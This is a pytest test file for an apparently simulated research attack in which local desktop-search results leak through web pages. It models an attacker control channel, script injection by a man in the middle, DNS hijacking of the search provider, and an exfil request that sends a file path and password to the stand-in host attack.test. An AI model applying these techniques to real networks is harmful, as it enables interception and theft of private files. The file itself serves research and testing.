"""Attacker machinery: control channel, block extraction, MITM transform, replay."""

from __future__ import annotations

import json

import pytest

from snipleak import attacker as atk
from snipleak import netfabric as nf
from snipleak import pagemodel as pm
from snipleak import provider
from snipleak import searchcore as sc
from snipleak.interceptor import DetectedQuery, InterceptorConfig, QueryForm, splice


def test_control_protocol_lines():
    q = atk.control_query(["pass", "word"])
    assert q.endswith("\n")
    assert json.loads(q) == {"type": "QUERY", "terms": ["pass", "word"]}
    r = atk.control_result([["p", "s"]])
    assert json.loads(r) == {"type": "RESULT", "snippets": [["p", "s"]]}
    assert json.loads(atk.control_done()) == {"type": "DONE"}


def test_parse_control_line_tolerates_noise():
    assert atk.parse_control_line("") is None
    assert atk.parse_control_line("   \n") is None
    assert atk.parse_control_line("not json") is None
    assert atk.parse_control_line('{"no_type": 1}') is None
    assert atk.parse_control_line('{"type": "DONE"}\n') == {"type": "DONE"}


def results_block(mode: sc.MitigationMode) -> str:
    idx = sc.index_corpus([
        sc.Document("d0", "C:/docs/pw.txt", "password hunter2 is right here ok"),
        sc.Document("d1", "C:/docs/other.txt", "password reused on another site"),
    ])
    results = sc.query_index(idx, ["password"])
    return pm.serialize(sc.render_local_block(results, mode)).decode()


def test_extract_block_items_full():
    page = f"<html><body><p>noise</p>{results_block(sc.MitigationMode.FULL)}</body></html>"
    items = atk.extract_block_items(page)
    assert len(items) == 2
    # one hit in each doc: the tie breaks toward the lesser path
    assert [p for p, _ in items] == ["C:/docs/other.txt", "C:/docs/pw.txt"]
    assert all("password" in snip for _, snip in items)


def test_extract_block_items_no_snippets():
    items = atk.extract_block_items(results_block(sc.MitigationMode.NO_SNIPPETS))
    assert [p for p, _ in items] == ["C:/docs/other.txt", "C:/docs/pw.txt"]
    assert all(snip == "" for _, snip in items)


def test_extract_block_items_images():
    items = atk.extract_block_items(results_block(sc.MitigationMode.IMAGES))
    assert items == [["", "gdres0.png"], ["", "gdres1.png"]]


def test_extract_block_items_iframe():
    items = atk.extract_block_items(results_block(sc.MitigationMode.IFRAME))
    assert items == [["", "http://127.0.0.1:4664/search?q=password"]]


def test_extract_block_items_absent():
    assert atk.extract_block_items("<html><body><p>plain page</p></body></html>") == []
    assert atk.extract_block_items(results_block(sc.MitigationMode.OFF)) == []


def test_extract_block_from_spliced_response_bytes():
    """The attacker works on raw reassembled bytes, mid-page block included."""
    idx = sc.index_corpus([
        sc.Document("d0", "C:/docs/pw.txt", "password hunter2 is right here ok")])
    cfg = InterceptorConfig(provider_hosts=("websearch.test",))
    detected = DetectedQuery(("password",), QueryForm.PROXIED, "websearch.test")
    segments = nf.segment_response(provider.build_response("password"))
    spliced, _ = splice(cfg, idx, detected, segments)
    data = b"".join(s.data for s in spliced).decode("latin-1")
    items = atk.extract_block_items(data)
    assert items == [["C:/docs/pw.txt", "password hunter2 is right here ok"]]


def test_mitm_transform_appends_script():
    page = pm.serialize(pm.element("html", {}, [
        pm.element("body", {}, [pm.element("p", {}, [pm.text_node("hi")])])]))
    payload = [{"op": "dom_find", "marker": "gd-local-results"}]
    out, changed = atk.mitm_transform(b"HTTP/1.0 200 OK\r\n\r\n" + page, payload)
    assert changed
    doc = pm.parse_page(out.split(b"\r\n\r\n", 1)[1])
    scripts = [n for _, n in pm.iter_nodes(doc) if n.kind is pm.NodeKind.SCRIPT]
    assert len(scripts) == 1
    assert json.loads(pm.subtree_text(scripts[0])) == payload


def test_mitm_transform_passes_unparseable_bodies_through():
    raw = b"HTTP/1.0 200 OK\r\n\r\n<html><body>broken"
    out, changed = atk.mitm_transform(raw, [])
    assert not changed and out == raw
    headerless = b"no separator here"
    out, changed = atk.mitm_transform(headerless, [])
    assert not changed and out == headerless


@pytest.fixture
def rig():
    fab = nf.Fabric(seed=6)
    fab.add_host("victim-pc", ("10.0.0.2",), is_victim=True)
    fab.add_host("websearch.test", ("10.0.0.10",))
    fab.add_host("attack.test", ("10.0.0.66",))
    fab.add_dns_record("websearch.test", "10.0.0.10")
    fab.add_dns_record("attack.test", "10.0.0.66")
    provider.install(fab, "websearch.test", "10.0.0.10")
    canned = atk.CannedResponse("sports scores", provider.build_response("sports scores"))
    return fab, canned


def test_replay_proxy_returns_canned_bytes(rig):
    fab, canned = rig
    server = atk.AttackServer(fab, "attack.test", "websearch.test", canned)
    server.install()
    stream = fab.connect(
        "victim-pc", "10.0.0.66", atk.PROXY_PORT,
        b"GET http://websearch.test/search?q=anything+else HTTP/1.0\r\n\r\n",
        actor="applet@attack.test")
    assert fab.deliver(stream) == canned.data
    # the attacker recorded the query terms it saw
    assert server.received[0]["kind"] == "proxy_request"
    assert server.received[0]["terms"] == ["anything", "else"]


def test_control_channel_round(rig):
    fab, canned = rig
    server = atk.AttackServer(fab, "attack.test", "websearch.test", canned)
    server.install()

    def ask(payload: str) -> dict:
        stream = fab.connect("victim-pc", "10.0.0.66", atk.CONTROL_PORT,
                             payload.encode(), actor="applet@attack.test")
        return json.loads(fab.deliver(stream).decode())

    assert ask("") == {"type": "DONE"}              # nothing pending
    server.pending_terms = ["password"]
    assert ask("") == {"type": "QUERY", "terms": ["password"]}
    reply = ask(atk.control_result([["C:/docs/pw.txt", "snippet text"]]))
    assert reply == {"type": "DONE"}
    results = [r for r in server.received if r["kind"] == "control_result"]
    assert results and results[0]["items"] == [["C:/docs/pw.txt", "snippet text"]]


def test_exfil_endpoint_records_decoded_payload(rig):
    fab, canned = rig
    server = atk.AttackServer(fab, "attack.test", "websearch.test", canned)
    server.install()
    stream = fab.connect(
        "victim-pc", "10.0.0.66", atk.WEB_PORT,
        b"GET /exfil?d=C%3A%2Fdocs%2Fpw.txt+hunter2 HTTP/1.0\r\nHost: attack.test\r\n\r\n",
        actor="script@websearch.test")
    fab.deliver(stream)
    exfils = [r for r in server.received if r["kind"] == "exfil"]
    assert exfils == [{"kind": "exfil", "data": "C:/docs/pw.txt hunter2",
                       "actor": "script@websearch.test"}]


def test_front_door_proxies_foreign_hosts_through_mitm(rig):
    fab, canned = rig
    mitm = atk.MitmElement(fab, "attack.test",
                           payload=atk.default_mitm_payload("attack.test"))
    server = atk.AttackServer(fab, "attack.test", "websearch.test", canned, mitm=mitm)
    server.install()
    mitm.dns_hijack_install("websearch.test")
    # victim resolves the provider, gets the attacker, sends a plain search
    addr = fab.resolve("victim-pc", "websearch.test")
    assert addr == "10.0.0.66"
    stream = fab.connect(
        "victim-pc", addr, 80,
        b"GET /search?q=bank HTTP/1.0\r\nHost: websearch.test\r\n\r\n",
        actor="browser")
    data = fab.deliver(stream)
    # response is authentic provider content plus one injected script node
    assert b"results for bank" in data
    doc = pm.parse_page(data.split(b"\r\n\r\n", 1)[1])
    scripts = [n for _, n in pm.iter_nodes(doc) if n.kind is pm.NodeKind.SCRIPT]
    assert len(scripts) == 1
    assert any(e["event"] == "transformed" for e in fab.events)


def test_secure_streams_relay_opaquely(rig):
    fab, canned = rig
    fab.add_service("websearch.test", "10.0.0.10", 443,
                    lambda req, stream: b"ciphertext-response")
    mitm = atk.MitmElement(fab, "attack.test", payload=[{"op": "dom_find"}])
    server = atk.AttackServer(fab, "attack.test", "websearch.test", canned, mitm=mitm)
    server.install(with_tls=True)
    mitm.dns_hijack_install("websearch.test")
    addr = fab.resolve("victim-pc", "websearch.test")
    stream = fab.connect("victim-pc", addr, 443, b"ciphertext-request",
                         secure=True, actor="browser")
    assert fab.deliver(stream) == b"ciphertext-response"
    assert any(e["event"] == "relayed_opaque" for e in fab.events)
    assert not any(e["event"] == "transformed" for e in fab.events)
